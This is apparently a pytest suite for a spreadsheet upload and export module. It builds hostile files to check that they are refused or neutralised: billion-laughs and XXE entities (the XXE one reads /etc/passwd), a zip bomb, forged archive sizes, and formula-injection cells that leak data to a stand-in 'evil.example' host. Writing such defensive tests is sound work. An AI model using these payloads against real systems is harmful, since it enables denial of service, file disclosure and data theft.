"""app.spreadsheets: real files written to tmp_path and read back, including hostile ones."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from app import spreadsheets, xlsx_stream
from app.exports import FORMULA_PREFIXES, neutralise, write_csv, write_xlsx
from app.spreadsheets import (
    SpreadsheetError,
    check_xlsx_archive,
    detect_format,
    open_table,
)

COLUMNS = ("external_id", "name", "country", "workers", "audited_on")
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def sheet_xml(rows: str, *, head: str = "", prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}">'
            f"{head}<sheetData>{rows}</sheetData></worksheet>")


def build_xlsx(path: Path, sheet: str, strings: str | None = None,
               edits: dict[str, Callable[[str], str]] | None = None) -> Path:
    """A package framed by openpyxl (content types, relationships, styles with style 1 a date)
    whose sheet, shared strings and any other part we write ourselves, hostile if need be."""
    frame = openpyxl.Workbook()
    frame.active["A1"] = dt.datetime(2024, 1, 1)
    buffer = io.BytesIO()
    frame.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        members = {name: source.read(name).decode() for name in source.namelist()}
    override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        "</Types>", override + "</Types>")
    members["xl/worksheets/sheet1.xml"] = sheet
    members["xl/sharedStrings.xml"] = strings or f'<sst xmlns="{MAIN_NS}" count="0"/>'
    for name, edit in (edits or {}).items():
        members[name] = edit(members[name])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return path


def write_book(path: Path, rows: list[list[object]]) -> Path:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    workbook.save(path)
    return path


def write_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def read(path: Path, filename: str | None = None, columns=COLUMNS, **kw):
    """(table, [rows]) with the rows fully consumed, so the file is closed."""
    table = open_table(path, filename or path.name, columns, **kw)
    return table, list(table.rows)


# --- format detection -------------------------------------------------------------------------

@pytest.mark.parametrize(("filename", "head", "expected"), [
    ("suppliers.xlsx", b"PK\x03\x04rest", "xlsx"),
    ("SUPPLIERS.XLSX", b"PK\x03\x04rest", "xlsx"),
    ("suppliers.csv", b"name,country\n", "csv"),
    ("Suppliers.CSV", "name;country\nCôte".encode("cp1252"), "csv"),
])
def test_detect_format_accepts_matching_content(filename, head, expected):
    assert detect_format(filename, head) == expected


@pytest.mark.parametrize(("filename", "head", "words"), [
    ("suppliers.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG image"),
    ("suppliers.xlsx", b"%PDF-1.7\n", "PDF document"),
    ("suppliers.xlsx", b"name,country\nAcme,CN\n", "text file"),
    ("suppliers.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00", "password-protected"),
    ("suppliers.csv", b"PK\x03\x04\x14\x00", "zip archive"),
    ("suppliers.csv", b"\x89PNG\r\n\x1a\n", "PNG image"),
    ("suppliers.csv", b"name\x00,country", "binary file"),
    ("suppliers.csv", "name,country".encode("utf-16"), "UTF-16"),
    ("suppliers.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "save it as .xlsx"),
    ("suppliers.ods", b"PK\x03\x04", "save it as .xlsx"),
    ("suppliers.docx", b"PK\x03\x04", "Only Excel workbooks (.xlsx) and CSV files"),
    ("suppliers", b"name,country", "Only Excel workbooks (.xlsx) and CSV files"),
])
def test_detect_format_refuses_with_415(filename, head, words):
    with pytest.raises(SpreadsheetError) as info:
        detect_format(filename, head)
    assert info.value.status == 415
    assert words in info.value.message


@pytest.mark.parametrize(("name", "content", "words"), [
    ("logo.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "looks like a PNG image"),
    ("suppliers.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "save it as .xlsx"),
])
def test_wrong_types_are_refused_by_open_table(tmp_path, name, content, words):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(SpreadsheetError) as info:
        open_table(tmp_path / name, name, COLUMNS)
    assert (info.value.status, info.value.code) == (415, "unsupported_type")
    assert words in info.value.message


# --- size and row limits ----------------------------------------------------------------------

def test_file_over_max_bytes_is_refused_with_413(tmp_path):
    path = write_text(tmp_path / "s.csv", "name,country\n" + "Acme,CN\n" * 100)
    with pytest.raises(SpreadsheetError, match=r"^The file is 813 bytes; the limit is 500 bytes\.$"
                       ) as info:
        open_table(path, "s.csv", COLUMNS, max_bytes=500)
    assert (info.value.status, info.value.code) == (413, "too_large")


def test_70_mb_file_is_refused_by_size_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "huge.xlsx"
    with open(path, "wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(70 * 1024 * 1024)  # sparse: costs no disk and no time
    monkeypatch.setattr(spreadsheets, "detect_format", pytest.fail)  # must not get that far
    started = time.perf_counter()
    with pytest.raises(SpreadsheetError) as info:
        open_table(path, "huge.xlsx", COLUMNS)
    assert time.perf_counter() - started < 0.5
    assert info.value.message == "The file is 70.0 MB; the limit is 25 MB."
    assert info.value.status == 413


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_more_than_max_rows_is_refused_while_streaming(tmp_path, kind):
    rows = [["name", "country"]] + [[f"Supplier {i}", "CN"] for i in range(6)]
    if kind == "xlsx":
        path = write_book(tmp_path / "s.xlsx", rows)
    else:
        path = write_text(tmp_path / "s.csv", "".join(",".join(r) + "\n" for r in rows))
    table = open_table(path, path.name, COLUMNS, max_rows=5)
    with pytest.raises(SpreadsheetError, match="more than 5 rows") as info:
        list(table.rows)
    assert info.value.code == "too_many_rows"
    _, got = read(path, max_rows=6)
    assert len(got) == 6


@pytest.mark.parametrize(("name", "content"), [
    ("empty.csv", b""), ("empty.xlsx", b""), ("blank.csv", b"\r\n \r\n"),
    ("bom.csv", b"\xef\xbb\xbf"), ("commas.csv", b",,,\n,,,\n"),
])
def test_empty_files(tmp_path, name, content):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(SpreadsheetError, match=r"^The file is empty\.$") as info:
        open_table(tmp_path / name, name, COLUMNS)
    assert info.value.status == 422


def test_workbook_without_rows_is_empty(tmp_path):
    path = write_book(tmp_path / "s.xlsx", [])
    with pytest.raises(SpreadsheetError, match=r"^The file is empty\.$"):
        open_table(path, "s.xlsx", COLUMNS)


def test_blank_first_row_is_refused(tmp_path):
    path = build_xlsx(tmp_path / "s.xlsx", sheet_xml(
        '<row r="3"><c r="A3" t="inlineStr"><is><t>name</t></is></c></row>'))
    with pytest.raises(SpreadsheetError, match="first row is blank") as info:
        open_table(path, "s.xlsx", COLUMNS)
    assert info.value.code == "no_header"


# --- header matching --------------------------------------------------------------------------

@pytest.mark.parametrize("written", [
    "external_id", "External ID", " external_id ", "EXTERNAL-ID", "External  Id*", "external__id",
    "\ufeffexternal id",
])
def test_header_variants_map_to_canonical_names(tmp_path, written):
    path = write_text(tmp_path / "s.csv", f'"{written}",Name*,COUNTRY,Notes\nS-1,Acme,CN,x\n')
    table, rows = read(path)
    assert table.columns == ["external_id", "name", "country"]
    assert table.unknown_columns == ["Notes"]
    assert rows == [(2, {"external_id": "S-1", "name": "Acme", "country": "CN"})]


def test_duplicate_header_is_refused_naming_it(tmp_path):
    path = write_book(tmp_path / "s.xlsx", [["Name", "Country", "name"], ["Acme", "CN", "x"]])
    with pytest.raises(SpreadsheetError, match=r'"name" appears twice \(columns A and C\)') as info:
        open_table(path, "s.xlsx", COLUMNS)
    assert info.value.code == "duplicate_column"


# --- xlsx values ------------------------------------------------------------------------------

def test_xlsx_values_keep_their_types(tmp_path):
    path = write_book(tmp_path / "s.xlsx", [
        ["external_id", "name", "country", "workers", "audited_on"],
        [1001, "  Acme Textiles  ", "CN", 1200, dt.datetime(2024, 3, 1, 10, 30)],
        [None, None, None, None, None],
        ["S-2", "Beta", "  ", 12.5, dt.date(2023, 12, 31)],
        ["S-3", "Gamma", "VN", 120.0, None],
    ])
    table, rows = read(path)
    assert table.format == "xlsx"
    assert [number for number, _ in rows] == [2, 4, 5]  # the blank row 3 is skipped
    first, second, third = (values for _, values in rows)
    assert first == {"external_id": 1001, "name": "Acme Textiles", "country": "CN",
                     "workers": 1200, "audited_on": dt.datetime(2024, 3, 1, 10, 30)}
    assert second["country"] is None and second["workers"] == 12.5
    assert second["audited_on"] == dt.datetime(2023, 12, 31)
    assert third["workers"] == 120 and third["audited_on"] is None


def test_shared_strings_rich_text_and_phonetic_runs(tmp_path):
    strings = (f'<sst xmlns="{MAIN_NS}"><si><t>name</t></si><si><t>country</t></si>'
               '<si><r><rPr><b/></rPr><t>Acme </t></r><r><t xml:space="preserve"> </t></r>'
               "<r><t>Textiles</t></r></si><si><t>日本</t><rPh sb=\"0\" eb=\"2\"><t>ニホン</t>"
               "</rPh></si><si/><si><t>&lt;b&gt;Fish &amp; Co&lt;/b&gt;_x000D_</t></si></sst>")
    rows = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
            '<row r="3"><c r="A3" t="s"><v>5</v></c><c r="B3" t="s"><v>4</v></c></row>')
    _, got = read(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows), strings))
    assert got == [(2, {"name": "Acme  Textiles", "country": "日本"}),
                   (3, {"name": "<b>Fish & Co</b>", "country": None})]  # "\r" stripped


def test_cell_types_and_references(tmp_path):
    rows = ('<row><c t="inlineStr"><is><t>name</t></is></c><c t="inlineStr"><is><t>workers</t>'
            "</is></c><c t=\"inlineStr\"><is><t>audited_on</t></is></c>"
            '<c t="inlineStr"><is><t>country</t></is></c></row>'
            '<row><c t="str"><f>A1&amp;"x"</f><v>Acme</v></c><c><v>1.2E3</v></c>'
            '<c s="1"><v>45352</v></c><c t="e"><v>#N/A</v></c></row>'
            '<row r="9"><c r="B9" t="b"><v>1</v></c><c r="C9" t="d"><v>2024-03-01T00:00:00</v></c>'
            '<c r="D9" s="1"><v>99999999</v></c></row>')
    _, got = read(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows)))
    assert got == [
        (2, {"name": "Acme", "workers": 1200.0, "audited_on": dt.datetime(2024, 3, 1),
             "country": "#N/A"}),
        (9, {"name": None, "workers": True, "audited_on": dt.datetime(2024, 3, 1),
             "country": 99999999}),  # a date serial beyond the calendar stays a number
    ]


def test_prefixed_namespace_and_pretty_printed_xml(tmp_path):
    sheet = (f'<?xml version="1.0"?>\n<x:worksheet xmlns:x="{MAIN_NS}">\n <x:sheetData>\n'
             '  <x:row r="1">\n   <x:c r="A1" t="inlineStr"><x:is><x:t>name</x:t></x:is></x:c>\n'
             "  </x:row>\n  <x:row r=\"2\">\n   <x:c r=\"A2\" t=\"inlineStr\">\n    <x:is>\n"
             "     <x:r><x:t>Acme</x:t></x:r>\n     <x:r><x:t> Co</x:t></x:r>\n    </x:is>\n"
             "   </x:c>\n  </x:row>\n </x:sheetData>\n</x:worksheet>\n")
    _, got = read(build_xlsx(tmp_path / "s.xlsx", sheet))
    assert got == [(2, {"name": "Acme Co"})]


def test_html_in_names_is_preserved_verbatim(tmp_path):
    name = '<script>alert("x")</script> & Sons <b>Ltd</b>'
    _, got = read(write_book(tmp_path / "s.xlsx", [["name"], [name]]))
    assert got == [(2, {"name": name})]
    _, got = read(write_text(tmp_path / "s.csv", f'name\n"{name.replace(chr(34), 2 * chr(34))}"\n'))
    assert got == [(2, {"name": name})]


# --- hostile workbooks ------------------------------------------------------------------------

def test_sparse_sheet_with_cells_in_column_xfd_is_cheap(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "country"])
    for row in range(2, 3002):
        sheet.cell(row=row, column=1, value=f"Supplier {row}")
        sheet.cell(row=row, column=2, value="CN")
        sheet.cell(row=row, column=16384, value="far away")  # column XFD
    workbook.save(tmp_path / "sparse.xlsx")
    started = time.perf_counter()
    table, rows = read(tmp_path / "sparse.xlsx")
    assert time.perf_counter() - started < 3
    assert table.unknown_columns == []
    assert len(rows) == 3000
    assert rows[-1] == (3001, {"name": "Supplier 3001", "country": "CN"})


@pytest.mark.parametrize("ref", ["A1:XFD1048576", "A1:A1"])
def test_forged_dimension_is_ignored(tmp_path, ref):
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{v}</t></is></c></row>'
                   for r, v in ((1, "name"), (2, "Acme"), (3, "Beta"), (4, "Gamma")))
    path = build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows, head=f'<dimension ref="{ref}"/>'))
    started = time.perf_counter()
    _, got = read(path)
    assert time.perf_counter() - started < 1
    assert [v["name"] for _, v in got] == ["Acme", "Beta", "Gamma"]


def test_far_row_number_is_not_padded(tmp_path):
    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
            '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Acme</t></is></c></row>')
    started = time.perf_counter()
    _, got = read(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows)))
    assert time.perf_counter() - started < 1
    assert got == [(1048576, {"name": "Acme"})]


# lol9 expands to 10**9 "lol"s.
def test_rows_beyond_the_spreadsheet_limit_are_refused_even_when_blank(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_SHEET_ROWS", 50)
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>' + "<row/>" * 60
    table = open_table(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows)), "s.xlsx", COLUMNS)
    with pytest.raises(SpreadsheetError, match="more than 50 rows, the most a spreadsheet"):
        list(table.rows)
    table = open_table(write_text(tmp_path / "s.csv", "name\n" + "\n" * 60 + "Acme\n"), "s.csv",
                       COLUMNS)
    with pytest.raises(SpreadsheetError, match="more than 50 rows, the most a spreadsheet"):
        list(table.rows)


def test_shared_string_table_is_capped(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_stream, "MAX_SHARED_STRINGS", 3)
    strings = f'<sst xmlns="{MAIN_NS}">' + "<si><t>x</t></si>" * 4 + "</sst>"
    path = build_xlsx(tmp_path / "s.xlsx", sheet_xml(""), strings)
    with pytest.raises(SpreadsheetError, match="more than 3 different texts"):
        open_table(path, "s.xlsx", COLUMNS)
    build_xlsx(path, sheet_xml('<row r="1"><c r="A1" t="s"><v>2</v></c></row>'),
               strings.replace("<si><t>x</t></si>", "", 1))
    table, _ = read(path)
    assert table.unknown_columns == ["x"]


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "' + "&lol;" * 10 + '">'
                  + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10))
                  + "]>")


@pytest.mark.parametrize("part", ["sheet", "strings", "workbook", "xxe"])
def test_entity_attacks_are_refused(tmp_path, part):
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    kwargs: dict[str, Any] = {}
    sheet = sheet_xml(cell.replace("&lol9;", "name"))
    if part == "sheet":
        sheet = sheet_xml(cell, prolog=BILLION_LAUGHS)
    elif part == "strings":
        kwargs["strings"] = (f'<?xml version="1.0"?>{BILLION_LAUGHS}<sst xmlns="{MAIN_NS}">'
                             "<si><t>&lol9;</t></si></sst>")
    elif part == "workbook":
        kwargs["edits"] = {"xl/workbook.xml": lambda old: old.replace(
            "<workbook", BILLION_LAUGHS + "<workbook", 1)}
    else:
        sheet = sheet_xml(cell.replace("&lol9;", "&xxe;"),
                          prolog='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    path = build_xlsx(tmp_path / "s.xlsx", sheet, **kwargs)
    with pytest.raises(SpreadsheetError) as info:
        read(path)
    assert info.value.status == 422
    assert "refused for safety" in info.value.message


def test_zip_bomb_is_refused_before_any_xml_parser(tmp_path, monkeypatch):
    path = tmp_path / "bomb.xlsx"
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 40 + b"</t></is></c></row>"
    block = row * (1024 * 1024 // len(row))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
            for _ in range(200):  # ~200 MB of XML, streamed through the compressor
                member.write(block)
            member.write(b"</sheetData></worksheet>")
    assert path.stat().st_size < 2 * 1024 * 1024
    monkeypatch.setattr(xlsx_stream, "ExcelReader", pytest.fail)  # must never be reached
    with pytest.raises(SpreadsheetError, match=r"expands [\d,]+ times when unzipped") as info:
        open_table(path, "bomb.xlsx", COLUMNS)
    assert (info.value.status, info.value.code) == (422, "archive_too_large")


def test_declared_size_over_the_limit_is_refused(tmp_path):
    path = write_book(tmp_path / "s.xlsx", [["name"], ["Acme"]])
    data = bytearray(path.read_bytes())
    entry = data.find(b"PK\x01\x02")  # first central-directory entry: forge its size
    data[entry + 24:entry + 28] = (0xF0000000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    with pytest.raises(SpreadsheetError, match=r"^The workbook expands to 3\.8 GB when unzipped; "
                                               r"the limit is 500 MB\.$"):
        check_xlsx_archive(path)


def test_too_many_archive_members_is_refused(tmp_path):
    path = tmp_path / "many.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for i in range(1001):
            archive.writestr(f"xl/media/{i}.bin", b"x")
    with pytest.raises(SpreadsheetError, match="1,002 parts; the limit is 1,000"):
        check_xlsx_archive(path)


def test_zip_that_is_not_a_workbook_is_refused(tmp_path):
    path = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photo.txt", "hello")
    with pytest.raises(SpreadsheetError, match="not an Excel workbook") as info:
        open_table(path, "photos.xlsx", COLUMNS)
    assert info.value.status == 415


@pytest.mark.parametrize("damage", ["garbage", "truncated", "crc", "xml", "missing_sheet"])
def test_corrupt_workbooks_become_spreadsheet_errors(tmp_path, damage):
    path = write_book(tmp_path / "s.xlsx", [["name", "country"]]
                      + [[f"Supplier {i}", "CN"] for i in range(2000)])
    data = path.read_bytes()
    if damage == "garbage":
        path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 40)
    elif damage == "truncated":
        path.write_bytes(data[: len(data) // 2])
    elif damage == "crc":  # flip bytes inside the compressed sheet: zlib or CRC error, lazily
        with zipfile.ZipFile(path) as archive:
            info = archive.getinfo("xl/worksheets/sheet1.xml")
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
        middle = start + info.compress_size // 2
        path.write_bytes(data[:middle] + bytes(b ^ 0x55 for b in data[middle:middle + 64])
                         + data[middle + 64:])
    elif damage == "xml":
        build_xlsx(path, sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
                                   '</row><row r="2"><c r="A2"><v>12</c></row>'))
    else:
        build_xlsx(path, sheet_xml(""), edits={"xl/_rels/workbook.xml.rels": lambda old: (
            old.replace("worksheets/sheet1.xml", "worksheets/missing.xml"))})
    with pytest.raises(SpreadsheetError) as info:
        read(path)
    assert info.value.status == 422
    assert "Open it in Excel and save it again as .xlsx." in info.value.message or \
        "no worksheet" in info.value.message


def test_closing_an_unread_table_releases_the_file(tmp_path):
    path = write_book(tmp_path / "s.xlsx", [["name"], ["Acme"]])
    with open_table(path, "s.xlsx", COLUMNS) as table:
        assert table.columns == ["name"]
    # pytest turns an unclosed file's ResourceWarning into an error, so a leak fails here too
    table = open_table(write_text(tmp_path / "s.csv", "name\nAcme\n"), "s.csv", COLUMNS)
    table.close()


# --- CSV --------------------------------------------------------------------------------------

@pytest.mark.parametrize(("encoding", "delimiter"), [
    ("utf-8", ","), ("utf-8-sig", ","), ("cp1252", ","), ("utf-8", ";"), ("cp1252", ";"),
])
def test_csv_encodings_and_delimiters(tmp_path, encoding, delimiter):
    lines = [["External ID", "Name", "Country", "Workers"],
             ["CI-1", "Coopérative Agricole", "Côte d'Ivoire", "1,200"],
             ["", "", "", ""],
             ["TR-2", "Öztürk Tekstil; Ltd", "Türkiye", ""]]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(lines)
    path = write_text(tmp_path / "s.csv", buffer.getvalue(), encoding)
    table, rows = read(path)
    assert table.format == "csv"
    assert rows == [
        (2, {"external_id": "CI-1", "name": "Coopérative Agricole", "country": "Côte d'Ivoire",
             "workers": "1,200"}),
        (4, {"external_id": "TR-2", "name": "Öztürk Tekstil; Ltd", "country": "Türkiye",
             "workers": None}),
    ]


def test_csv_row_numbers_count_records_and_nul_is_removed(tmp_path):
    # A NUL in the first bytes means "binary file"; further on it is just removed.
    padding = "".join(f"Supplier {i},CN\n" for i in range(60))
    text = f'name,country\n"Acme\nTextiles",CN\n\n{padding}Be\x00ta,VN\n,\nGamma,\n'
    _, rows = read(write_text(tmp_path / "s.csv", text))
    assert rows[0] == (2, {"name": "Acme\nTextiles", "country": "CN"})
    assert rows[-2:] == [(64, {"name": "Beta", "country": "VN"}),
                         (66, {"name": "Gamma", "country": None})]


def test_csv_with_an_oversized_field_is_a_spreadsheet_error(tmp_path):
    path = write_text(tmp_path / "s.csv", 'name,country\nAcme,CN\n"' + "x" * 200_000 + '",CN\n')
    table = open_table(path, "s.csv", COLUMNS)
    with pytest.raises(SpreadsheetError, match="Row 3 of the CSV file could not be read"):
        list(table.rows)


# --- writing ----------------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_each_formula_prefix(prefix):
    assert neutralise(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Acme = Co", "a+b", "", None, 12, -3, 1.5,
                                   dt.date(2024, 1, 1), "'=already"])
def test_neutralise_leaves_other_values(value):
    assert neutralise(value) == value


def test_formula_text_round_trips_as_text_through_xlsx(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
    path = tmp_path / "export.xlsx"
    write_xlsx(path, [
        ("Suppliers", ["name", "workers", "audited_on", "note"],
         iter([[evil, 1200, dt.datetime(2024, 3, 1), "#N/A"], ["-3", -3, None, "@SUM(1)"],
               ["<b>Fish & Co</b>", 1.5, dt.date(2024, 1, 2), "bell\x07 tab\tinside"]])),
        ("Column help", ["column", "help"], [["name", "Required."]]),
    ])
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Suppliers"]
    assert [c.value for c in sheet[1]] == ["name", "workers", "audited_on", "note"]
    assert all(c.font.b for c in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= len(evil)
    name, workers, audited, note = sheet[2]
    assert (name.data_type, name.value) == ("s", "'" + evil)
    assert (workers.data_type, workers.value) == ("n", 1200)
    assert audited.is_date and audited.value == dt.datetime(2024, 3, 1)
    assert (note.data_type, note.value) == ("s", "#N/A")
    assert [(c.data_type, c.value) for c in sheet[3]] == [
        ("s", "'-3"), ("n", -3), ("n", None), ("s", "'@SUM(1)")]
    assert sheet["A4"].value == "<b>Fish & Co</b>" and sheet["D4"].value == "bell tab\tinside"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert workbook["Column help"]["B2"].value == "Required."
    workbook.close()
    _, rows = read(path, columns=("name", "workers"))
    assert rows[0] == (2, {"name": "'" + evil, "workers": 1200})


def test_formula_text_is_neutralised_in_csv():
    buffer = io.StringIO()
    write_csv(buffer, ["name", "workers"],
              [["=HYPERLINK(\"http://evil\")", 3], ["\tcmd", None], ["+1", -3], ["Acme", 1.5]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "workers"], ["'=HYPERLINK(\"http://evil\")", "3"], ["'\tcmd", ""],
        ["'+1", "-3"], ["Acme", "1.5"]]


def test_write_xlsx_needs_a_sheet():
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx(io.BytesIO(), [])
